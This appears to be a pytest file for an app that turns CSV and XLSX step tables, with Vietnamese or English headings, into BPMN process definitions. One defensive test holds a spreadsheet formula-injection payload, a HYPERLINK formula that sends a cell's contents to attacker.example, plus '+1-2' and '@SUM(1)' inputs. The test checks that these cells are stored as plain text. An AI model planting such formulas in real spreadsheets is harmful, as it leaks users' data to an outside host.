"""CSV and XLSX step tables: same table, same BPMN as JSON; Vietnamese headings; cells are only data."""
from __future__ import annotations

import io
from urllib.parse import urlencode

from lxml import etree

from app.authoring.bpmn_writer import NS

from .conftest import FROM_STEPS, case_payload
from .tables import EN_HEADERS, VI_HEADERS, csv_bytes, rows_of, xlsx_bytes

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _query(meta: dict) -> str:
    return urlencode({k: v for k, v in meta.items() if v is not None and k != "phase_totals"})


def _bpmn(client, headers, key, version):
    response = client.get(f"/api/v1/process-definitions/{key}/versions/{version}/bpmn", headers=headers)
    return etree.fromstring(response.data)


def test_csv_with_bom_vietnamese_headings_and_semicolons_gives_the_same_bpmn_as_json(cases, client, designer):
    case = cases["CB-2028-2025-TNXP-thanhlap"]
    payload = case_payload(case)
    for step in payload["steps"]:  # the CSV below has no return_to / agency columns: keep the tables equal
        step.pop("return_to", None)
        step.pop("agency", None)
    reference = client.post(FROM_STEPS, json=payload, headers=designer).get_json()
    data = csv_bytes(VI_HEADERS, rows_of(case), delimiter=";", decimal_comma=True)

    response = client.post(f"{FROM_STEPS}?{_query(payload['meta'])}", data=data, content_type="text/csv",
                           headers=designer)

    assert response.status_code == 201, response.get_json()
    draft = response.get_json()
    assert draft["version"] == 2 and draft["bpmn_sha256"] == reference["bpmn_sha256"]


def test_csv_without_bom_as_a_multipart_file_with_english_headings(cases, client, designer):
    case = cases["NA-3857-2025"]
    meta = case_payload(case)["meta"]
    data = csv_bytes(EN_HEADERS, rows_of(case), bom=False)

    response = client.post(f"{FROM_STEPS}?{_query(meta)}", headers=designer,
                           data={"file": (io.BytesIO(data), "quy-trinh.csv")}, content_type="multipart/form-data")

    assert response.status_code == 201, response.get_json()
    draft = response.get_json()
    assert [s["time_limit"] for s in draft["steps"]] == ["PT4H", "PT4H", "PT112H", "PT24H", "PT16H", "PT8H", None]
    assert draft["declared_total_days"] == 21


def test_the_time_heading_can_give_the_unit(cases, client, designer):
    case = cases["NA-3857-2025"]
    meta = {**case_payload(case)["meta"], "unit": None}
    data = csv_bytes(("Bước", "Đơn vị thực hiện", "Nội dung công việc", "Thời gian (giờ)"), rows_of(case))

    response = client.post(f"{FROM_STEPS}?{_query(meta)}", data=data, content_type="text/csv", headers=designer)

    assert response.status_code == 201, response.get_json()
    assert response.get_json()["steps"][2]["time_limit"] == "PT112H"


def test_xlsx_made_with_openpyxl_gives_the_same_bpmn_as_json(cases, client, designer):
    case = cases["CB-2022-2025-QT17"]
    payload = case_payload(case)
    for step in payload["steps"]:
        step.pop("return_to", None)
    reference = client.post(FROM_STEPS, json=payload, headers=designer).get_json()
    headers = (*VI_HEADERS, "Giai đoạn", "Cơ quan")
    rows = [[*row, step["phase"], step.get("agency")] for row, step in zip(rows_of(case), payload["steps"], strict=False)]
    data = xlsx_bytes(headers, rows)
    query = _query(payload["meta"])

    response = client.post(f"{FROM_STEPS}?{query}", headers=designer,
                           data={"file": (io.BytesIO(data), "QT17.xlsx")}, content_type="multipart/form-data")
    raw = client.post(f"{FROM_STEPS}?{query}", headers=designer, data=data, content_type=XLSX_TYPE)

    assert response.status_code == 201, response.get_json()
    assert raw.status_code == 201, raw.get_json()
    assert response.get_json()["bpmn_sha256"] == raw.get_json()["bpmn_sha256"] == reference["bpmn_sha256"]
    assert response.get_json()["lanes"] == reference["lanes"]


def test_injection_looking_cells_are_stored_as_text_never_evaluated(cases, client, designer):
    case = cases["CB-2028-2025-luutru-caplai"]
    meta = case_payload(case)["meta"]
    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào")'
    rows = rows_of(case)
    rows[2][2] = evil
    csv_draft = client.post(f"{FROM_STEPS}?{_query(meta)}", data=csv_bytes(VI_HEADERS, rows),
                            content_type="text/csv", headers=designer)
    xlsx = xlsx_bytes(VI_HEADERS, rows_of(case), text_cells={"C4": evil, "C5": "+1-2", "C6": "@SUM(1)"})
    xlsx_draft = client.post(f"{FROM_STEPS}?{_query(meta)}", data=xlsx, content_type=XLSX_TYPE, headers=designer)

    assert csv_draft.status_code == 201, csv_draft.get_json()
    assert xlsx_draft.status_code == 201, xlsx_draft.get_json()
    for version in (1, 2):
        root = _bpmn(client, designer, meta["key"], version)
        docs = [el.text for el in root.iterfind(".//bpmn:userTask/bpmn:documentation", NS)]
        assert docs[2] == evil
    assert _bpmn(client, designer, meta["key"], 2).find(".//bpmn:userTask[4]/bpmn:documentation", NS).text == "+1-2"


def test_blank_rows_are_skipped_and_numbers_read_as_labels(cases, client, designer):
    case = cases["CB-2028-2025-luutru-caplai"]
    meta = case_payload(case)["meta"]
    rows = rows_of(case)
    rows = [*rows[:3], [None, None, None, None], *rows[3:]]
    rows[0][0] = 1.0  # spreadsheets often store step numbers as floats

    response = client.post(f"{FROM_STEPS}?{_query(meta)}", data=xlsx_bytes(VI_HEADERS, rows), content_type=XLSX_TYPE,
                           headers=designer)

    assert response.status_code == 201, response.get_json()
    assert [s["id"] for s in response.get_json()["steps"]] == [f"Step_{i}" for i in range(1, 8)]
